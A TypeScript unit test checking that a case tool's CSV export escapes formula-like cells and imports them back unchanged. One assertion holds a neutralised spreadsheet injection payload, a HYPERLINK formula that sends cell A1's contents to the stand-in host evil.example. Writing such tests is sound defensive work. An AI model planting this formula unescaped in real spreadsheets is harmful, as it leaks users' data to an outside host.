import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { exportInterchange } from '../../../../main/core/interchange/export-interchange.js';
import { importInterchange } from '../../../../main/core/interchange/import-interchange.js';
import { looksLikeFormula } from '../../../../main/core/interchange/spreadsheet-cell.js';
import { useTempDir } from '../../../helpers/temp-dir.js';
import { hostileCase } from './hostile-case.js';
import { CaseStore } from '../../../../main/core/store/case-store.js';

const tempDir = useTempDir();

describe('CSV export of hostile text', () => {
  it('writes no cell a spreadsheet would run, and imports back exactly what the case held', () => {
    const dir = tempDir();
    const store = hostileCase(dir);
    const r = exportInterchange(store, join(dir, 'out.csv'), 'csv');
    for (const file of r.files) {
      const cells = Papa.parse<string[]>(readFileSync(file, 'utf8'), { skipEmptyLines: true }).data.flat();
      expect(cells.filter(looksLikeFormula), file).toEqual([]);
    }
    expect(readFileSync(r.files[0]!, 'utf8')).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
    const target = CaseStore.create(join(dir, 'back.dossier'), { title: 'back' });
    for (const file of r.files) importInterchange(target, file, 'csv');
    // The CSV tables carry no case id: every other field comes back as it was.
    for (const kind of ['entity', 'link'] as const) {
      const strip = ({ caseId: _c, ...rest }: { caseId: string }) => rest;
      expect([...target.iterate(kind)].map(strip), kind).toEqual([...store.iterate(kind)].map(strip));
    }
    expect([...target.iterate('alias')].map((a) => a.alias)).toEqual(['=1+2']);
    store.close();
    target.close();
  });
});
